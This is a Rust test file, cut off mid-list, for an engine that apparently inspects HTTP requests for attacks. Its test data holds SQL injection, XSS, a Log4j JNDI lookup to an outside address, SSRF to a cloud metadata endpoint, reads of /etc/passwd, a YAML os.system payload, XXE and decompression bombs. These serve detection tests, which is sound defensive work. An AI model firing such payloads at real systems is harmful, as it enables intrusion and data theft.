//! Tests of the public API: the findings of requests.

use engine::{Engine, mutate::empty_request};
use proptest::prelude::*;
use shared::{AttackType, Body, ConnectorInfo, Finding, InspectRequest, Severity, Trigger};
use std::sync::LazyLock;

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::new);

fn request(path: &str, query: &str) -> InspectRequest {
    InspectRequest {
        host: "shop.example.com".into(),
        path: path.into(),
        query: query.into(),
        ..empty_request("GET")
    }
}

fn with_body(content_type: &str, body: impl Into<Vec<u8>>) -> InspectRequest {
    let headers = vec![("content-type".to_owned(), content_type.to_owned())];
    InspectRequest { headers, body: Some(Body(body.into())), ..request("/", "") }
}

fn findings(request: &InspectRequest) -> Vec<Finding> {
    ENGINE.inspect(request).findings
}

/// `type point payload` of each finding.
fn summaries(request: &InspectRequest) -> Vec<String> {
    let summary = |it: &Finding| format!("{} {} {}", it.attack_type, it.point, it.payload);
    findings(request).iter().map(summary).collect()
}

#[test]
fn a_tautology_in_a_parameter_is_sql_injection() {
    let summaries = summaries(&request("/", "x='+OR+1=1"));
    assert!(summaries.contains(&"sqli get > x ' OR 1=1".to_owned()), "{summaries:?}");
}

#[test]
fn a_sensitive_file_in_the_path_is_path_traversal() {
    for path in ["/etc/passwd", "/instructions.php/etc/passwd", "/%65tc/passwd"] {
        let summaries = summaries(&request(path, ""));
        assert!(summaries.contains(&"ptrav uri /etc/passwd".to_owned()), "{path}: {summaries:?}");
    }
}

#[test]
fn names_in_the_certificate_of_a_viewer_are_inspected_at_the_origin() {
    let with = |name: &str, value: &str| InspectRequest {
        connector: Some(ConnectorInfo { event: Some(Trigger::OriginRequest), ..ConnectorInfo::default() }),
        headers: vec![(name.to_owned(), value.to_owned())],
        ..request("/", "")
    };
    let benign = [
        ("Subject", "CN=client_.com,OU=client-3,O=mTLS,ST=Washington,C=US"),
        ("Subject", r"CN=D'Angelo\, Sons \+ Partners,O=Research \& Development (EU),C=IT"),
        ("Issuer", "CN=rootcamtls.com,OU=rootCA,O=mTLS,L=Seattle,ST=Washington,C=US"),
        ("Serial-Number", "4a:3f:5c:92:d1:e8:7b:6c"),
        ("Sha256", "01fbf94fef5569753420c349f49adbfd80af5275377816e3ab1fb371b29cb586"),
        ("Validity", "NotBefore=2023-09-21T01:50:17Z;NotAfter=2024-09-20T01:50:17Z"),
    ];
    for (part, value) in benign {
        assert_eq!(findings(&with(&format!("CloudFront-Viewer-Cert-{part}"), value)), [], "{value}");
    }
    let hostile = with("CloudFront-Viewer-Cert-Subject", "CN=${jndi:ldap://203.0.113.9/a},O=x");
    let summaries = summaries(&hostile);
    assert!(
        summaries.iter().any(|it| it.contains(" header > CLOUDFRONT-VIEWER-CERT-SUBJECT ")),
        "{summaries:?}"
    );
}

#[test]
fn findings_in_the_path_are_not_repeated_for_its_segments() {
    for path in ["/search/'%20or%201=1--/x", "/x/<script>alert(1)</script>"] {
        let points: Vec<String> =
            findings(&request(path, "")).iter().map(|it| it.point.to_string()).collect();
        assert!(!points.is_empty() && points.iter().all(|point| point == "uri"), "{path}: {points:?}");
    }
}

#[test]
fn findings_name_the_decoded_layers() {
    let twice_encoded = findings(&request("/", "q=%2527%2520or%25201%253D1--"));
    assert!(twice_encoded.iter().all(|it| it.decoded == ["percent", "percent"]), "{twice_encoded:?}");
    let in_base64 = findings(&request("/", "q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"));
    assert!(
        in_base64.iter().any(|it| it.decoded == ["base64"] && it.point.to_string() == "get > q > base64"),
        "{in_base64:?}"
    );
}

#[test]
fn a_template_that_looks_like_json_is_inspected_as_a_template() {
    for template in ["{{7%2B7}}", "{{self}}", "{ls,-la}"] {
        assert!(!findings(&request("/", &format!("q={template}"))).is_empty(), "{template}");
    }
}

#[test]
fn names_are_inspected_and_share_one_point() {
    let summaries = summaries(&request("/", "<script>=1"));
    assert!(summaries.iter().any(|it| it.starts_with("xss get > name <script>")), "{summaries:?}");
}

#[test]
fn json_inside_a_parameter_inside_base64_is_parsed() {
    // {"a":["<svg onload=x>"]}
    let summaries = summaries(&request("/", "q=eyJhIjpbIjxzdmcgb25sb2FkPXg%2BIl19"));
    assert!(
        summaries.iter().any(|it| it.starts_with("xss get > q > base64 > json_doc > hash:a > array:0 ")),
        "{summaries:?}"
    );
}

#[test]
fn all_parts_of_a_request_are_inspected() {
    let payload = "1 union select 1,2,3";
    let header = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    let mut requests = vec![
        request("/1%20union%20select%201,2,3", ""),
        request("/", "id=1%20union%20select%201,2,3"),
        with_body("application/x-www-form-urlencoded", format!("p={payload}")),
        with_body("application/json", format!("{{\"a\":{{\"b\":[\"{payload}\"]}}}}")),
        with_body("text/plain", payload),
        with_body(
            "multipart/form-data; boundary=b",
            format!("--b\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n{payload}\r\n--b--"),
        ),
    ];
    for name in ["x-request-id", "cookie", "referer", "user-agent"] {
        let value = if name == "cookie" { format!("a={payload}") } else { payload.to_owned() };
        requests.push(InspectRequest { headers: vec![header(name, &value)], ..request("/", "") });
    }
    for request in requests {
        assert!(findings(&request).iter().any(|it| it.signature == "sqli-union-select"), "{request:?}");
    }
}

#[test]
fn the_most_severe_finding_comes_first() {
    let findings = findings(&request("/", "a='--&b=1;drop+table+x&c=<iframe>"));
    assert!(findings.is_sorted_by(|a, b| a.severity >= b.severity), "{findings:?}");
    assert_eq!(findings.first().map(|it| it.severity), Some(Severity::Critical));
}

#[test]
fn an_ordinary_request_has_no_findings() {
    let header = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    let headers = vec![
        header("host", "shop.example.com"),
        header("cookie", "session=5f4dcc3b5aa765d61d8327deb882cf99; theme=dark; cart=%7B%22id%22%3A1%7D"),
        header("referer", "https://shop.example.com/list?sort=price&order=desc"),
    ];
    let request = InspectRequest { headers, ..request("/products/o'reilly-books", "q=it%27s+5+or+6&page=2") };
    assert_eq!(findings(&request), []);
}

#[test]
fn findings_are_bounded_and_payloads_truncated() {
    let query = (0..5_000).fold(String::new(), |query, number| query + &format!("p=<script>{number}&"));
    assert_eq!(findings(&request("/", &query)).len(), 64);
    let long = findings(&request("/", &format!("q=<img onerror={}>", "é".repeat(9_000))));
    assert!(long.iter().all(|it| it.payload.chars().count() <= Finding::PAYLOAD_CHARS));
}

fn overlimit(request: &InspectRequest) -> bool {
    findings(request).iter().any(|it| it.attack_type == AttackType::Overlimit)
}

#[test]
fn deep_nesting_is_bounded_and_reported() {
    assert!(overlimit(&with_body("application/json", "[".repeat(100_000))));
    assert!(overlimit(&with_body("application/json", "{\"a\":".repeat(100_000))));
    assert!(overlimit(&request("/", &format!("q=%{}41", "25".repeat(1_000)))));
}

#[test]
fn nested_base64_is_bounded_and_reported() {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let nested = (0..20).fold("<script>alert(1)".to_owned(), |inner, _| STANDARD.encode(inner));
    assert!(overlimit(&with_body("text/plain", nested)));
}

#[test]
fn deep_xml_is_bounded_and_reported() {
    assert!(overlimit(&with_body(
        "application/xml",
        format!("<?xml version='1.0'?>{}", "<a>".repeat(100_000))
    )));
    let many = (0..210_000).fold(String::new(), |many, number| many + &format!("<a>{number}</a>"));
    assert!(overlimit(&with_body("text/xml", format!("<?xml?>{many}"))));
}

fn types(request: &InspectRequest) -> Vec<AttackType> {
    findings(request).into_iter().map(|it| it.attack_type).collect()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use flate2::{Compression, write::GzEncoder};
    use std::io::Write;
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(data).expect("a vector takes any data");
    encoder.finish().expect("a vector takes any data")
}

#[test]
fn bombs_are_bounded_and_reported() {
    let packed = gzip(&vec![b'a'; 64 << 20]);
    assert!(types(&with_body("application/json", packed.clone())).contains(&AttackType::DataBomb));
    assert!(types(&with_body("application/gzip", gzip(&packed))).contains(&AttackType::DataBomb));
    let level = |level: usize| format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    let levels: Vec<String> = (1..12).map(level).collect();
    let billion_laughs = format!("<?xml?><!DOCTYPE z [<!ENTITY a0 \"lol\">{}]><z>&a11;</z>", levels.concat());
    assert!(types(&with_body("text/xml", billion_laughs)).contains(&AttackType::DataBomb));
}

#[test]
fn attacks_are_found_in_every_format() {
    use base64::{
        Engine as _,
        engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
    };
    let payload = "1 union select 1,2,3";
    let utf16: Vec<u8> = format!("\u{feff}{payload}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    let digit = |half: u8| char::from_digit(u32::from(half), 16).unwrap_or_default();
    let hex: String = payload.bytes().flat_map(|byte| [digit(byte >> 4), digit(byte & 15)]).collect();
    let token = format!(
        "{}.{}.c2ln",
        URL_SAFE_NO_PAD.encode("{\"alg\":\"HS256\"}"),
        URL_SAFE_NO_PAD.encode(format!("{{\"sub\":\"{payload}\"}}"))
    );
    let soap = format!("<s:Envelope xmlns:s=\"x\"><s:Body><id>{payload}</id></s:Body></s:Envelope>");
    let bodies: Vec<Vec<u8>> = vec![
        soap.clone().into_bytes(),
        soap.replace("<id>", "<id a=\"").replace("</id>", "\"/>").into_bytes(),
        format!("<?xml version=\"1.0\"?><a><![CDATA[{payload}]]></a>").into_bytes(),
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"union\">]><a>1 &b; select 1,2,3</a>".to_vec(),
        gzip(payload.as_bytes()),
        gzip(format!("{{\"a\":\"{payload}\"}}").as_bytes()),
        STANDARD.encode(gzip(payload.as_bytes())).into_bytes(),
        utf16,
        hex.into_bytes(),
        token.into_bytes(),
        format!("{{\"query\":\"query {{ user(id: \\\"{payload}\\\") {{ id }} }}\"}}").into_bytes(),
    ];
    for body in bodies {
        let findings = findings(&with_body("text/plain", body.clone()));
        assert!(
            findings.iter().any(|it| it.attack_type == AttackType::Sqli),
            "{}",
            String::from_utf8_lossy(&body)
        );
    }
}

#[test]
fn findings_have_the_type_of_the_attack() {
    for (query, expected) in [
        ("x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///c'>]><a>%26b;</a>", AttackType::Xxe),
        ("user[$ne]=1", AttackType::Nosqli),
        ("x=*)(uid=*))(|(uid=*", AttackType::Ldapi),
        ("x='+or+count(//user)=1+or+'", AttackType::Ldapi),
        ("x=http://169.254.169.254/latest/", AttackType::Ssrf),
        ("x=http://files.example/inc/shell.txt?", AttackType::PathTraversal),
        ("x=a%0d%0aSet-Cookie:+b=c", AttackType::Crlf),
        ("x=<!--%23exec+cmd=\"x\"-->", AttackType::Ssi),
        ("x=a@b.example%0aBcc:c@d.example", AttackType::MailInjection),
        ("next=/%5cevil.example", AttackType::OpenRedirect),
    ] {
        assert!(
            types(&request("/", query)).contains(&expected),
            "{query}: {:?}",
            summaries(&request("/", query))
        );
    }
}

#[test]
fn an_xml_declaration_is_reported_once_at_its_point() {
    let body = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"x\">]><a>&b;</a>";
    assert_eq!(
        summaries(&with_body("application/xml", body)),
        ["xxe post > xml > xml_dtd_entity <!ENTITY b SYSTEM \"x\">"]
    );
}

#[test]
fn benign_documents_and_tokens_have_no_findings() {
    for (content_type, body) in [
        (
            "application/soap+xml",
            "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body><m:Order xmlns:m=\"http://a.example/o\"><m:Item qty=\"2\">O'Brien &amp; Sons</m:Item></m:Order></s:Body></s:Envelope>",
        ),
        (
            "application/atom+xml",
            "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><link href=\"http://a.example/\" rel=\"self\"/><entry><title>Select one</title><content type=\"html\">&lt;p&gt;Hi&lt;/p&gt;</content></entry></feed>",
        ),
        (
            "image/svg+xml",
            "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>",
        ),
        (
            "application/json",
            "{\"$schema\":\"http://json-schema.org/draft-07/schema#\",\"$ref\":\"#/a\",\"$type\":\"b\",\"email\":\"From: a@b.example\\r\\nSubject: hi\\r\\n\\r\\ntext\"}",
        ),
        (
            "application/json",
            "{\"query\":\"query Q($id: ID!) { user(id: $id) { name posts(first: 10, orderBy: \\\"date\\\") { title } } }\",\"variables\":{\"id\":\"5f4dcc3b5aa765d61d8327deb882cf99\"}}",
        ),
        (
            "application/x-www-form-urlencoded",
            "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+email&address=1+Main+St%0D%0ABerlin&tag[]=a&tag[]=b",
        ),
    ] {
        assert_eq!(findings(&with_body(content_type, body)), [], "{body}");
    }
    let headers = vec![("authorization".to_owned(), "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c".to_owned())];
    assert_eq!(findings(&InspectRequest { headers, ..request("/", "") }), []);
}

#[test]
fn too_many_fields_are_reported() {
    let query = (0..110_000).fold(String::new(), |query, number| query + &format!("a{number}=1&"));
    assert!(overlimit(&request("/", &query)));
}

#[test]
fn many_values_at_the_deepest_level_fit_the_budget() {
    let many = (0..210_000).fold(String::new(), |many, number| many + &format!("\"{number}\","));
    let body = format!("{}[{many}", "{\"a\":".repeat(100));
    assert!(overlimit(&with_body("application/json", body)));
}

#[test]
fn large_hostile_requests_are_inspected_to_their_end() {
    for unit in [
        "'or(",
        "<a b=\"",
        "<style>",
        "/*",
        "((((",
        "union select ",
        "../",
        "%25",
        "\\u00",
        "&#x",
        "{\"a\":[",
        "--x\r\n\r\n",
        "1 or ",
        "\"'`",
        "<a b='c'>",
        "<?xml?><!DOCTYPE a [",
        "<!ENTITY a \"&b;\">",
        "<![CDATA[",
        "&a;",
        "a[",
        "+ADw-",
        "http://",
        "\\\\\\",
        "\n",
        "å",
        ")(",
        "$ne:",
        "query {",
        "eyJ.",
        "$(",
        ";id ",
        "{{",
        "${",
        "`",
        "{a,",
        "a''",
        "<%",
        "/?*[",
        "for %i in (",
        "$IFS",
        "#set(",
    ] {
        for content_type in [
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
        ] {
            ENGINE.inspect(&with_body(content_type, unit.repeat(60_000 / unit.len())));
        }
    }
}

#[test]
fn a_request_is_explained_field_by_field() {
    let explained = ENGINE.explain(&request("/a", "q=%253Cscript%253E"));
    let field = explained.iter().find(|it| it.point.to_string() == "get > q").unwrap();
    let layers: Vec<_> = field.layers.iter().map(|it| (it.name, it.value.as_str())).collect();
    assert_eq!(layers, [("value", "%3Cscript%3E"), ("percent", "<script>")]);
    assert_eq!(field.findings.len(), 1);
    assert!(serde_json::to_string(&explained).unwrap().contains(r#""point":[["get","q"]]"#));
}

/// Syntax that tokenizers and decoders react to.
const PIECES: &[&str] = &[
    "'",
    "\"",
    "`",
    "<",
    ">",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    "/*",
    "*/",
    "--",
    "#",
    "%",
    "%u",
    "\\u",
    "\\x",
    "&#",
    ";",
    "=",
    "&",
    "../",
    "\\",
    "select",
    "union",
    " or ",
    "1",
    "<script",
    " on",
    "javascript:",
    "0x",
    "\u{0}",
    "\r\n",
    "--x",
    ":",
    ",",
    "é",
    "＜",
    "name=",
    "@@",
    "by",
    "not ",
    "<?xml?>",
    "<!DOCTYPE a [",
    "<!ENTITY b \"",
    "<![CDATA[",
    "]]>",
    "xmlns",
    "&b;",
    "+ADw-",
    "http:",
    "@127.1",
    "0x7f",
    "[::1]",
    "query {",
    "eyJ",
    ".",
    "//",
    "嘊",
    "\\r",
    "Location:",
    "$ne",
    "$(",
    "${",
    "`",
    "|",
    "{{",
    "}}",
    "<%",
    "$IFS",
    "cat ",
    "/bin/",
    "jndi:",
    "lower:",
    ":-",
    "*",
    "^",
    "__proto__",
];

/// These pieces mixed with arbitrary bytes.
fn hostile() -> impl Strategy<Value = Vec<u8>> {
    let pieces = proptest::sample::select(PIECES);
    let openers: Vec<&'static [u8]> = vec![
        b"",
        b"",
        b"",
        b"\x1f\x8b\x08\0",
        b"\x78\x9c",
        b"\xfe\xff",
        b"\xff\xfe",
        b"<?xml?>",
        b"query {",
        b"<a xmlns=''>",
    ];
    let opener = proptest::sample::select(openers);
    let piece = prop_oneof![
        4 => pieces.prop_map(|it| it.as_bytes().to_vec()),
        1 => proptest::collection::vec(any::<u8>(), 0..6),
    ];
    let pieces = proptest::collection::vec(piece, 0..40);
    (opener, pieces).prop_map(|(opener, pieces)| [opener, &pieces.concat()].concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_requests_do_not_panic(path in hostile(), query in hostile(), name in hostile(), value in hostile(), body in hostile(), kind in 0..8) {
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        let content_types = ["application/json", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "text/xml; charset=utf-16le", "application/soap+xml", "application/graphql", ""];
        let content_type = content_types.get(usize::try_from(kind).unwrap()).map_or_else(|| text(&value), |it| (*it).to_owned());
        let encoding = ["deflate", "gzip", ""][usize::try_from(kind).unwrap() % 3];
        let headers = vec![(text(&name), text(&value)), ("cookie".to_owned(), text(&value)), ("content-encoding".to_owned(), encoding.to_owned()), ("content-type".to_owned(), content_type)];
        let request = InspectRequest { headers, body: Some(Body(body)), ..request(&text(&path), &text(&query)) };
        let inspection = ENGINE.inspect(&request);
        prop_assert!(inspection.findings.iter().all(|it| it.span.0 <= it.span.1));
        ENGINE.explain(&request);
    }

    /// `explain` does not use the cache.
    #[test]
    fn the_clean_value_cache_does_not_change_findings(headers in proptest::collection::vec(header(), 1..6), path in path(), (name, value) in header()) {
        let cookie = ("cookie".to_owned(), format!("{name}={value}"));
        let headers = headers.into_iter().chain([cookie]).collect();
        let request = InspectRequest { headers, ..request(path, &format!("{name}={value}&next={value}&{value}=1")) };
        let sorted = |findings: &[Finding]| {
            let mut sorted: Vec<_> = findings.iter().map(|it| (it.signature.clone(), it.point.to_string(), it.span)).collect();
            sorted.sort();
            sorted
        };
        let uncached: Vec<Finding> = ENGINE.explain(&request).into_iter().flat_map(|field| field.findings).collect();
        for _ in 0..3 {
            prop_assert_eq!(sorted(&ENGINE.inspect(&request).findings), sorted(&uncached));
        }
    }
}

/// A small set of names and values, so that they repeat.
fn header() -> impl Strategy<Value = (String, String)> {
    const NAMES: &[&str] = &[
        "content-length",
        "transfer-encoding",
        "referer",
        "user-agent",
        "x-url",
        "x-file-name",
        "content-type",
        "accept",
    ];
    const VALUES: &[&str] = &[
        "5",
        "chunked",
        "http://127.0.0.1/",
        "https://shop.example.com/a?b=c",
        "a.php",
        "*/*",
        "text/html; q=0.8",
        "multipart/form-data; boundary=a; boundary=b",
        "' or 1=1--",
        "{}",
        r#"{"a": "../../etc/passwd"}"#,
        "%27",
        "gzip, br",
    ];
    let (names, values) = (proptest::sample::select(NAMES), proptest::sample::select(VALUES));
    (names, values).prop_map(|(name, value)| (name.to_owned(), value.to_owned()))
}

fn path() -> impl Strategy<Value = &'static str> {
    const PATHS: &[&str] = &["/", "/graphql", "/a.php;jsessionid=1", "/login"];
    proptest::sample::select(PATHS)
}

#[test]
fn prototype_keys_are_reported_only_below_a_constructor() {
    let summary_of = |body: &str| summaries(&with_body("application/json", body)).join(" ");
    assert!(
        summary_of(r#"{"constructor": {"prototype": {"admin": true}}}"#)
            .starts_with("rce post > json_doc > ")
    );
    assert_eq!(summary_of(r#"{"prototype": {"admin": true}, "constructor": "Bob & Sons"}"#), "");
}

#[test]
fn graphql_introspection_is_found_on_any_path() {
    let document = "{\"query\": \"{ __schema { queryType { name } } }\"}";
    let posted = InspectRequest { path: "/graphql".into(), ..with_body("application/json", document) };
    let in_query = request("/graphql", "query=%7B%20__schema%20%7B%20types%20%7B%20name%20%7D%20%7D%20%7D");
    let raw = InspectRequest {
        path: "/graphql".into(),
        ..with_body("application/graphql", "query { __schema { types { name } } }")
    };
    for request in [posted, in_query, raw] {
        let findings = findings(&request);
        assert!(findings.iter().any(|it| it.attack_type == AttackType::GraphqlIntrospection), "{findings:?}");
    }
}

#[test]
fn a_graphql_batch_is_limited() {
    let batch = |count| format!("[{}]", vec!["{\"query\": \"{ login(pin: 1) }\"}"; count].join(","));
    let types = |count| {
        let request =
            InspectRequest { path: "/graphql".into(), ..with_body("application/json", batch(count)) };
        findings(&request).iter().map(|it| it.attack_type.to_string()).collect::<Vec<_>>()
    };
    assert_eq!(types(10), [] as [&str; 0]);
    assert_eq!(types(11), ["gql_docs_per_batch"]);
}

#[test]
fn an_uploaded_script_is_found_by_its_name() {
    let part = |name: &str| {
        format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nhello\r\n--b--\r\n"
        )
    };
    let signatures = |name: &str| {
        let request = with_body("multipart/form-data; boundary=b", part(name));
        findings(&request).iter().map(|it| it.signature.clone()).collect::<Vec<_>>()
    };
    assert_eq!(signatures("photo.php.jpg"), ["rce-upload-script"]);
    assert_eq!(signatures("photo.jpg"), [] as [&str; 0]);
}

#[test]
fn a_part_that_may_be_a_field_is_no_file() {
    const FIELD: &str = "Content-Disposition: form-data; name=\"x\"";
    let is_attack = |head: &str| {
        let content = "a\nb\n' union select password from users-- \nc";
        let body = format!("--b\r\n{head}\r\n\r\n{content}\n\r\n--b--\r\n");
        is_attack(&with_body("multipart/form-data; boundary=b", body))
    };
    assert!(is_attack(FIELD));
    for head in [
        format!("{FIELD}\r\nX-A: filename"),
        format!("X-A: filename=\"a.bin\"\r\n{FIELD}"),
        format!("{FIELD}; a=\"; filename=b.bin\""),
        "Content-Disposition: form-data; name=\"x; filename=a.bin\"".to_owned(),
        format!("{FIELD}; filename=\"\""),
        format!("{FIELD}; filename*=utf-8''a.bin"),
        format!("{FIELD}; \"filename\"=a.bin"),
        format!("{FIELD}\r\n{FIELD}; filename=a.bin"),
        format!("{FIELD}\r\n ; filename=a.bin"),
        format!("X-A: name=\"content\"\r\n{FIELD}"),
        format!("{FIELD}\n\nid=' union select password from users-- "),
    ] {
        assert!(is_attack(&head), "{head}");
    }
    for file in ["; filename=\"dump.sql\"", "; filename=dump.sql; filename*=utf-8''dump.sql"] {
        assert!(!is_attack(&format!("{FIELD}{file}\r\nContent-Type: application/sql")), "{file}");
    }
}

#[test]
fn parts_of_a_field_are_its_text() {
    const FIELD: &str = "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n";
    for (head, content) in [
        ("", "--' union select password from users-- \nContent-A: b"),
        (
            "Content-Type: multipart/mixed; boundary=c\r\n",
            "' union select password from users-- \n--c\r\n\r\na",
        ),
    ] {
        let body = format!("{FIELD}{head}\r\n{content}\r\n--b--\r\n");
        assert!(is_attack(&with_body("multipart/form-data; boundary=b", body)), "{content}");
    }
}

#[test]
fn an_address_with_more_text_is_an_attack_outside_of_texts() {
    let request = |query: &str| InspectRequest { query: query.into(), ..with_body("", String::new()) };
    for value in [
        "http://169.254.169.254/latest/meta-data/%20x",
        "%1f%0b%0ehttp://127.0.0.1/",
        &format!("{}http://127.0.0.1/", "%0b".repeat(64)),
        "http://169.254.%0a169.254/",
        "ht%09tp://127.0.0.1/",
        "gopher://127.0.0.1:6379/_x%20y",
        "http://localhost:8080/admin%20x",
        "%e2%80%8bhttp://127.0.0.1/",
    ] {
        assert!(is_attack(&request(&format!("url={value}"))), "{value}");
    }
    for value in ["see http://localhost:3000/ for more", "http://localhost:3000/ does not start today"] {
        let form = format!("comment={}", percent_encoded(value));
        assert!(!is_attack(&with_body("application/x-www-form-urlencoded", form)), "{value}");
    }
}

fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |encoded, byte| encoded + &format!("%{byte:02x}"))
}

fn is_attack(request: &InspectRequest) -> bool {
    shared::score::of_request(&findings(request)) >= shared::Sensitivity::Balanced.threshold()
}

#[test]
fn an_attack_does_not_hide_behind_weaker_findings() {
    let logs = r#""' union select a from users --","#.repeat(1_100);
    let body =
        |extra: &str| with_body("application/json", format!(r#"{{"logs":[{logs}"x"],"id":"{extra}"}}"#));
    assert!(!is_attack(&body("7")), "{:?}", summaries(&body("7")).first());
    assert!(is_attack(&body("7' union select a from users --")));
    assert!(is_attack(&request("/.../x;id", "")));
}

#[test]
fn an_attack_does_not_hide_behind_its_own_quotation() {
    let prose = "Please have a look at what I found in the log of our shop this morning, it is in the \
                 list of all the visits that we cannot explain at all: ";
    let form = |name: &str, text: &str| {
        with_body("application/x-www-form-urlencoded", format!("{name}={}", percent_encoded(text)))
    };
    let quoted = format!("{prose}`<script>alert(1)</script>`");
    assert!(!is_attack(&form("comment", &quoted)));
    assert!(is_attack(&form("comment", &format!("{quoted} <script>alert(1)</script>"))));
    assert!(is_attack(&form("comment", &format!("{prose}<code><script>alert(1)</script></code>"))));
    assert!(is_attack(&form("id", &quoted)));
}

#[test]
fn an_attack_does_not_hide_behind_a_handler_without_effect() {
    assert!(!is_attack(&request("/", "x=<b onclick=\"window.print()\">")));
    assert!(is_attack(&request("/", "x=<b onclick=return>\" onmouseover=\"alert(1)")));
}

#[test]
fn an_attack_does_not_hide_in_binary_data_or_random_characters() {
    let random = r#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^"#;
    for attack in ["7 or 7=7 -- ", "7;cat /etc/passwd #", "{{7*7}}", "7' union select 1 -- "] {
        for padding in [random, &"\u{1}".repeat(80)] {
            let value = percent_encoded(&[attack, padding].concat());
            assert!(is_attack(&request("/", &format!("id={value}"))), "{attack:?} {padding:?}");
        }
    }
}

#[test]
fn yaml_is_inspected_as_scalars_and_as_a_whole() {
    let yaml = |body: &str| with_body("application/yaml", body);
    assert!(!is_attack(&yaml("name: tea\nsize: 7\n")));
    assert!(is_attack(&yaml("name: tea\nid: \"7' or 7=7 -- \"\n")));
    assert!(is_attack(&yaml("name: !!python/object/apply:os.system [id]\n")));
}

#[test]
fn a_form_may_name_its_character_set_in_a_field() {
    // `' or 7=7` in EBCDIC.
    let form = |label: &str| {
        let body = format!("_charset_={label}&q=%7D%40%96%99%40%F7%7E%F7");
        with_body("application/x-www-form-urlencoded", body)
    };
    assert!(is_attack(&form("ibm037")));
    let compressed = InspectRequest {
        headers: vec![
            ("content-type".to_owned(), "application/x-www-form-urlencoded".to_owned()),
            ("content-encoding".to_owned(), "gzip".to_owned()),
        ],
        body: Some(Body(gzip(b"%5fcharset%5f=ibm037&q=%7D%40%96%99%40%F7%7E%F7"))),
        ..request("/", "")
    };
    assert!(is_attack(&compressed));
    assert!(!is_attack(&form("utf-8")));
}

#[test]
fn attacks_are_found_in_base64_segments_and_in_strings_of_backticks() {
    assert!(is_attack(&request("/s/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/x", "")));
    assert!(!is_attack(&request("/s/VGhlIGtldHRsZSBpcyBvbiB0aGUgc3RvdmU/x", "")));
    for query in ["q=x%60+OR+%601%60=%601", "q=x%60||%601"] {
        assert!(is_attack(&request("/", query)), "{query}");
    }
}

#[test]
fn a_page_named_after_a_file_of_accounts_is_no_attack() {
    assert!(!is_attack(&request("/docs/etc/passwd-format", "")));
    for path in ["/docs/etc/passwd", "/docs/etc/passwd-", "/home/app/.git-credentials"] {
        assert!(is_attack(&request(path, "")), "{path}");
    }
}

#[test]
fn a_redirect_to_a_folder_of_another_host_is_suspicious() {
    let beacon = request("/", "return=//sync.example.net/match/pixel.gif%3Fuid=7");
    assert_eq!(shared::score::of_request(&findings(&beacon)), shared::Sensitivity::Strict.threshold());
    assert!(is_attack(&request("/", "return=//evil.example")));
}

/// The places of a value that people or programs write: what each is called, and the request.
fn places(value: &str) -> Vec<(&'static str, InspectRequest)> {
    let json = |document: serde_json::Value| with_body("application/json", document.to_string());
    vec![
        ("a query", request("/search", &format!("q={}", percent_encoded(value)))),
        ("a form", with_body("application/x-www-form-urlencoded", format!("q={}", percent_encoded(value)))),
        ("a field for posts", json(serde_json::json!({ "title": "Docs", "content": value }))),
        ("a message", json(serde_json::json!({ "id": 7, "message": value }))),
        ("JSON", json(serde_json::json!({ "id": 7, "value": value }))),
    ]
}

#[test]
fn sentences_that_name_tags_tables_and_commands_are_benign() {
    for benign in [
        "what is <script> tag",
        "how does the <iframe> tag work",
        "why use <object> and not <embed>?",
        "difference between <style> and <link>",
        "drop table lamp",
        "drop table lamp with shade",
        "select a sofa from our union collection",
        "select fabrics from the western union range",
        "Run `rm -rf node_modules && npm i` when the build fails.",
        "The folder is mounted with `$(pwd)`, as the manual says.",
        "Start it with `docker run -v $(pwd):/app node npm test` and wait for the tests.",
        "First `cd app && npm install`, then `npm run build && node server.js` and open the page.",
    ] {
        for (place, request) in places(benign) {
            assert!(!is_attack(&request), "{place}: {benign}: {:?}", findings(&request));
        }
    }
    for attack in [
        "what is <script>alert(1)</script>",
        "what is the <script> tag\"><script>alert(1)</script>",
        "how does the <iframe src=javascript:alert(1)> tag work",
        "<script>",
        "1;drop table lamp",
        "x'; drop table lamp; --",
        "1 union select a from sofa",
        "`rm -rf node_modules && npm i`",
        "x;rm -rf node_modules && npm i",
        "$(pwd)",
        "x`$(pwd)`",
